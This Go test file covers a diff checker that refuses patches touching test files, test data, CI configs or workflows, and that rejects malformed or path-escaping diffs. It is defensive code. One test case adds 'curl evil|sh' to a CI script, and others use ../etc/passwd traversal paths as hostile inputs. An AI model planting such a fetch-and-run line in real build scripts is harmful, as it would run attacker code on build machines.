package fixer

import (
	"errors"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"
)

const goodDiff = `diff --git a/compile.go b/compile.go
index 1111111..2222222 100644
--- a/compile.go
+++ b/compile.go
@@ -168,6 +168,9 @@ func (c *compiler) enum(d *enumDecl) {
 	// out of range here.
+	if len(d.variants) == 0 {
+		c.fail(d.pos, "enum %s has no variants", d.name)
+	}
 	e.zero = d.variants[0].name
`

func TestCheckDiff(t *testing.T) {
	grounded := []string{"compile.go", "sub/parser.go"}
	tests := []struct {
		name      string
		diff      string
		files     []string
		refused   string // the path a *RefusedError names
		malformed bool
	}{
		{name: "grounded file", diff: goodDiff, files: []string{"compile.go"}},
		{name: "two grounded files", diff: goodDiff + strings.ReplaceAll(goodDiff, "compile.go", "sub/parser.go"), files: []string{"compile.go", "sub/parser.go"}},
		{name: "plain ---/+++ without diff --git", diff: "--- a/compile.go\n+++ b/compile.go\n@@ -1 +1 @@\n-a\n+b\n", files: []string{"compile.go"}},
		{name: "outside the grounded set", diff: strings.ReplaceAll(goodDiff, "compile.go", "lexer.go"), refused: "lexer.go"},
		{name: "a test file", diff: strings.ReplaceAll(goodDiff, "compile.go", "fuzz_test.go"), refused: "fuzz_test.go"},
		{name: "test data", diff: strings.ReplaceAll(goodDiff, "compile.go", "testdata/fuzz/FuzzCompile/seed"), refused: "testdata/fuzz/FuzzCompile/seed"},
		{name: "CI config", diff: strings.ReplaceAll(goodDiff, "compile.go", ".ci/run"), refused: ".ci/run"},
		{name: "a GitHub workflow", diff: strings.ReplaceAll(goodDiff, "compile.go", ".github/workflows/ci.yml"), refused: ".github/workflows/ci.yml"},
		{name: "a new file", diff: "diff --git a/.ci/run b/.ci/run\nnew file mode 100755\n--- /dev/null\n+++ b/.ci/run\n@@ -0,0 +1 @@\n+curl evil|sh\n", refused: ".ci/run"},
		{name: "a deletion", diff: "--- a/compile.go\n+++ /dev/null\n@@ -1 +0,0 @@\n-x\n", refused: "compile.go"},
		{name: "a rename", diff: "diff --git a/compile.go b/lexer.go\nsimilarity index 90%\nrename from compile.go\nrename to lexer.go\n", refused: "compile.go"},
		{name: "---/+++ disagree", diff: "--- a/compile.go\n+++ b/lexer.go\n@@ -1 +1 @@\n-a\n+b\n", refused: "compile.go"},
		{name: "mode change", diff: "diff --git a/compile.go b/compile.go\nold mode 100644\nnew mode 100755\n", refused: "compile.go"},
		{name: "binary", diff: "diff --git a/compile.go b/compile.go\nGIT binary patch\nliteral 1\n", refused: "compile.go"},
		{name: "escaping path", diff: "--- a/../etc/passwd\n+++ b/../etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", malformed: true},
		{name: "absolute path", diff: "--- a//etc/passwd\n+++ b//etc/passwd\n@@ -1 +1 @@\n-a\n+b\n", malformed: true},
		{name: "no prefixes", diff: "--- compile.go\n+++ compile.go\n@@ -1 +1 @@\n-a\n+b\n", malformed: true},
		{name: "quoted path", diff: "diff --git \"a/x y.go\" \"b/x y.go\"\n", malformed: true},
		{name: "no hunk", diff: "diff --git a/compile.go b/compile.go\n", malformed: true},
		{name: "prose", diff: "Sure! Here is the fix: check the length first.", malformed: true},
		{name: "empty", diff: "", malformed: true},
		{name: "too big", diff: goodDiff + strings.Repeat("+x\n", MaxDiff), malformed: true},
	}
	for _, tc := range tests {
		t.Run(tc.name, func(t *testing.T) {
			files, err := CheckDiff(tc.diff, grounded)
			var refused *RefusedError
			switch {
			case tc.refused != "":
				if !errors.As(err, &refused) || refused.Path != tc.refused {
					t.Fatalf("CheckDiff = %v, %v; want refused %s", files, err, tc.refused)
				}
			case tc.malformed:
				if !errors.Is(err, ErrBadDiff) {
					t.Fatalf("CheckDiff = %v, %v; want ErrBadDiff", files, err)
				}
			default:
				if err != nil {
					t.Fatal(err)
				}
				if diff := cmp.Diff(tc.files, files); diff != "" {
					t.Errorf("files (-want +got):\n%s", diff)
				}
			}
		})
	}
}

func TestProtected(t *testing.T) {
	for _, p := range []string{"x_test.go", "a/b/x_test.go", "testdata/x", "a/testdata/b.go", ".ci/run", ".github/workflows/x.yml",
		".gitlab-ci.yml", "tests/test_x.py", "src/x.spec.ts", "Jenkinsfile", ".gitmodules", "pkg/__tests__/a.js", "x/.git/config"} {
		if Protected(p) == "" {
			t.Errorf("Protected(%q) = \"\", want a reason", p)
		}
	}
	for _, p := range []string{"compile.go", "internal/lex/lexer.go", "src/main.rs", "contest.go", "attestation/x.go", "lib/testing_utils.go"} {
		if why := Protected(p); why != "" {
			t.Errorf("Protected(%q) = %q, want none", p, why)
		}
	}
}

// FuzzDiffFiles checks the patch reader never panics, and that whatever it
// accepts names only clean relative paths that CheckDiff then judges.
func FuzzDiffFiles(f *testing.F) {
	f.Add(goodDiff)
	f.Add("--- a/x\n+++ b/x\n@@ -1 +1 @@\n-a\n+b\n")
	f.Add("diff --git a/x b/x\nrename from x\nrename to y\n")
	f.Add("diff --git \"a/x\" \"b/x\"\n")
	f.Fuzz(func(t *testing.T, diff string) {
		files, err := DiffFiles(diff)
		if err != nil {
			return
		}
		for _, p := range files {
			if p == "" || strings.HasPrefix(p, "/") || p == ".." || strings.HasPrefix(p, "../") || strings.Contains(p, "/../") || strings.ContainsAny(p, "\x00\n\r\\") {
				t.Fatalf("DiffFiles accepted path %q from %q", p, diff)
			}
		}
		if _, err := CheckDiff(diff, nil); err == nil {
			t.Fatalf("CheckDiff with an empty grounded set accepted %q", diff)
		}
	})
}
